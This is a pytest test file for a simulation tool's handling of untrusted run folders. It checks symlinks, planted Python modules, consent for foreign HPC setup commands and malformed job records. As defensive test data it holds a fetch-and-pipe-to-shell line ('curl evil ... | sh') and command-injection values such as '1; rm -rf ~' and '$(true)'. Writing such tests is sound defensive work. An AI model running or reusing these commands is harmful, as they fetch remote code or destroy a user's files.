"""Run folders of somebody else: links are not followed, their programs are not run, what their files hold ends in a message."""

from __future__ import annotations

from pathlib import Path

import pytest

from invasio.hpc import trust
from invasio.hpc.sites.profile import Site
from invasio.postprocess.paraview.script import render, write
from invasio.postprocess.run import open_run
from invasio.solver.cli import main
from invasio.solver.errors import InvasioError
from invasio.solver.output.records import numbers_of, rows_of
from tests.fuzz import folders
from tests.lib.messages import refused


@pytest.fixture(scope="module")
def whole(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A small run."""
    return folders.made(tmp_path_factory.mktemp("foreign"))


@pytest.fixture
def folder(whole: Path, tmp_path: Path) -> Path:
    """A copy of it, to be spoilt."""
    import shutil

    return Path(shutil.copytree(whole, tmp_path / "run"))


@pytest.mark.parametrize(
    ("command", "name"),
    [
        (["report"], "report.html"),
        (["paraview"], "views.py"),
        (["plot"], "figures/plot-maps.png"),
        (["plot", "--series", "tumour.total"], "figures/plot-series.png"),
    ],
)
@pytest.mark.parametrize("dangling", [False, True])
def test_links_are_not_followed(
    command: list[str], name: str, dangling: bool, folder: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """What the link leads to is as it was, also where it leads to nothing yet."""
    precious = tmp_path / "precious"
    if not dangling:
        precious.write_text("mine", encoding="utf-8")
    (folder / name).parent.mkdir(exist_ok=True)
    (folder / name).symlink_to(precious)
    assert main([*command, str(folder)]) == 1
    assert capsys.readouterr().err.endswith(" [unsafe-folder]\n")
    assert not precious.exists() if dangling else precious.read_text(encoding="utf-8") == "mine"


@pytest.mark.parametrize("command", [["plot"], ["paraview"]])
def test_a_folder_that_is_a_link(command: list[str], folder: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "elsewhere").mkdir()
    (folder / "figures").rmdir()
    (folder / "figures").symlink_to(tmp_path / "elsewhere")
    assert main([*command, str(folder)]) == 1
    assert capsys.readouterr().err.endswith(" [unsafe-folder]\n")
    assert not list((tmp_path / "elsewhere").iterdir())


def test_a_file_that_is_named_is_written_wherever_it_leads(folder: Path, tmp_path: Path) -> None:
    (tmp_path / "link.html").symlink_to(tmp_path / "page.html")
    assert main(["report", str(folder), "-o", str(tmp_path / "link.html")]) == 0
    assert (tmp_path / "page.html").stat().st_size > 1000


@pytest.mark.parametrize("name", ["json.py", "numpy/__init__.py", "math.so", "a.pyc"])
def test_paraview_does_not_run_programs_of_the_folder(name: str, folder: Path) -> None:
    run = open_run(folder)
    write(run)
    (folder / name).parent.mkdir(exist_ok=True)
    (folder / name).write_text("raise SystemExit(7)", encoding="utf-8")
    with refused("unsafe-folder", str(folder), "take it out"):
        render(run)


def test_commands_of_a_foreign_record_are_asked_for(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """Own submissions are known; others are shown, and used with --yes only; escapes of a terminal are shown as such."""
    monkeypatch.setenv("INVASIO_CACHE", str(tmp_path / "cache"))
    plain, foreign = Site(), Site(setup="module load mpi\ncurl evil\x1b[2J | sh")
    trust.agree(tmp_path, plain, yes=False)
    with refused("no-consent", str(tmp_path), "--yes"):
        trust.agree(tmp_path, foreign, yes=False)
    shown = capsys.readouterr().out
    assert "setup: curl evil\\x1b[2J | sh" in shown and "\x1b" not in shown
    trust.agree(tmp_path, foreign, yes=True)
    assert not trust.known(foreign)
    trust.remember(foreign)
    trust.agree(tmp_path, foreign, yes=False)
    assert trust.known(foreign) and not trust.known(Site(setup="module load mpi"))


@pytest.mark.parametrize(
    ("record", "says"),
    [
        ('{"job": "1; rm -rf ~", "site": {}}', "job"),
        ('{"job": "1", "ranks": "2; true", "site": {}}', "ranks"),
        ('{"job": "1", "time": "$(true)", "site": {}}', "time"),
        ('{"job": "1", "site": {"nodes": 3}}', "profile"),
        ('{"job": "1", "site": 4}', "profile"),
        ("[]", "mapping"),
        ("{", "JSON"),
    ],
)
def test_a_record_of_another_shape(record: str, says: str, folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from invasio.hpc.submit import RECORD

    (folder / RECORD).write_text(record, encoding="utf-8")
    (folder / "STATUS").write_text("failed\n", encoding="utf-8")
    assert main(["retry", str(folder)]) in (1, 3)
    assert says in capsys.readouterr().err


def test_tables_are_split_by_their_own_line_ends_only(tmp_path: Path) -> None:
    """Names and values hold what other readers take for the end of a line; the row that is being written is left out."""
    path = tmp_path / "series.csv"
    path.write_bytes("time,a\u2028b,c\x0bd,e\x0cf,g\x85h\n0,1,2,3,4\n1,5,6,7,8\n2,9".encode())
    head, rows = rows_of(path)
    assert head == ["time", "a\u2028b", "c\x0bd", "e\x0cf", "g\x85h"] and len(rows) == 2
    assert numbers_of(path)["a\u2028b"] == [1.0, 5.0]
    path.write_text("time,a\n0,1\n1,x\n", encoding="utf-8")
    with refused("unreadable-file", "series.csv", says=["'x'"]):
        numbers_of(path)


@pytest.mark.parametrize("content", [b"", b"\n", b"\xff\xfe", b"time\n", b"time,step\n1,2\n", b"\0" * 99, b"a" * 10_000])
def test_a_series_of_any_content(content: bytes, folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (folder / "series.csv").write_bytes(content)
    for command in (["status"], ["table"], ["table", "--tidy"], ["report"], ["plot", "--series", "tumour.total"]):
        code = main([*command, str(folder)])
        said = capsys.readouterr().err
        assert code in (0, 1, 2, 3) and (code == 0 or said.startswith("invasio: ")), said


def test_a_message_names_the_folder_where_its_data_have_another_shape(folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (folder / "resolved.yaml").write_text("name: [1]\nscales: 3\ntime: {start: 0, end: 1}\n", encoding="utf-8")
    assert main(["report", str(folder)]) == 3
    assert f"{folder}/resolved.yaml: scales is no mapping" in capsys.readouterr().err
    with pytest.raises(InvasioError):
        _ = open_run(folder).scenario
